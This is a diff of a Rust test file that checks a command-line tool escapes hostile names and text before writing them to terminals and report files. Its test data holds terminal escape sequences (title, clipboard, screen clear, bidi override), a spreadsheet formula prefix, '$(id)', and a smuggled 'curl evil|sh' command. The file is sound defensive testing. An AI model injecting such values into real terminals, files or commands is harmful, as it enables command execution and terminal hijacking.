@@ -1,15 +1,15 @@
-//! Tasks that mean harm by what they say: nothing of it reaches a terminal or a file but as text.
+//! Tasks with hostile text: it reaches terminals and files only as harmless text.
 
 use std::process::{Command, Stdio};
 
 use crate::support::{Ran, gorgon, guest, run, wat};
 use crate::terminal::on_a_terminal;
 
-/// A window's title, the clipboard, a cleared screen, C1 controls, text turned around, a formula and a command.
+/// A window title, the clipboard, a cleared screen, C1 controls, reversed text, a formula and a command.
 const TEXT: &str = "=evil\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}more\u{1b}[31mred;$(id)";
 
-/// What of `written` is an escape sequence or a control, but for colours, what gorgon's own progress draws with,
-/// newlines and tabs.
+/// The escape sequences and control characters in `written`, except colours, those of gorgon's progress line, newlines
+/// and tabs.
 fn unsafe_parts(written: &str) -> Vec<String> {
     let mut found = Vec::new();
     let mut rest = written;
@@ -17,7 +17,7 @@ fn unsafe_parts(written: &str) -> Vec<String> {
         let sequence = &rest[at..];
         let end = sequence.char_indices().skip(2).find(|(_, c)| c.is_ascii_alphabetic()).map_or(0, |(at, _)| at + 1);
         let is_csi = sequence.starts_with("\u{1b}[");
-        // Colours; and of a line that is drawn again: erase it, go up.
+        // Colours, and what redraws a line: erase it, move up.
         let passes = is_csi && matches!(&sequence[end - 1..end], "m" | "K" | "A");
         if passes {
             rest = &sequence[end..];
@@ -92,7 +92,7 @@ fn huge_names_are_refused_counted_and_cut() {
     }
 }
 
-/// Bounded by the host, as a limit of the guest's memory does not bind what the host keeps of it.
+/// The host must bound these, because the memory limit of the guest does not cover what the host keeps.
 #[test]
 fn huge_names_of_spans_are_not_kept() {
     let ran = run(&guest("hostile"), &["-n", "2", "--quiet", "--", "open"]);
@@ -104,8 +104,8 @@ fn huge_names_of_spans_are_not_kept() {
 }
 
 #[test]
-fn names_in_a_file_that_is_inspected_or_cannot_be_read_are_escaped() {
-    // It cannot be used because of its export's name, and is told so.
+fn names_in_inspected_or_unreadable_files_are_escaped() {
+    // The name of the export makes the file unusable, and the error quotes it.
     let named =
         wat(r#"(component (core module $m) (export "url=<a\1b]0;title\07\c2\9b31m\e2\80\ae>" (core module $m)))"#);
     for args in [&["inspect"][..], &["test"], &["run"]] {
@@ -113,12 +113,12 @@ fn names_in_a_file_that_is_inspected_or_cannot_be_read_are_escaped() {
         command.args(args).arg(named.path());
         let written = on_a_terminal(command, 80);
         assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{args:?}: {written:?}");
-        assert!(written.contains("]0;title"), "{args:?}: the name is shown, or this tests nothing: {written:?}");
+        assert!(written.contains("]0;title"), "{args:?}: the name is not shown, so this tests nothing: {written:?}");
     }
 }
 
 #[test]
-fn reports_on_a_terminal_are_text() {
+fn reports_on_a_terminal_contain_no_escape_sequences() {
     let directory = tempfile::tempdir().unwrap();
     let report = directory.path().join("r.json");
     let mut run = gorgon();
@@ -143,7 +143,7 @@ fn refused(ran: &Ran) -> Vec<(String, u64, Option<String>)> {
 }
 
 #[test]
-fn what_is_no_destination_is_not_suggested() {
+fn a_suggestion_is_always_a_valid_destination() {
     for (name, flag) in [
         ("x:1;curl\u{20}evil|sh;#", None),
         ("$(id)", None),
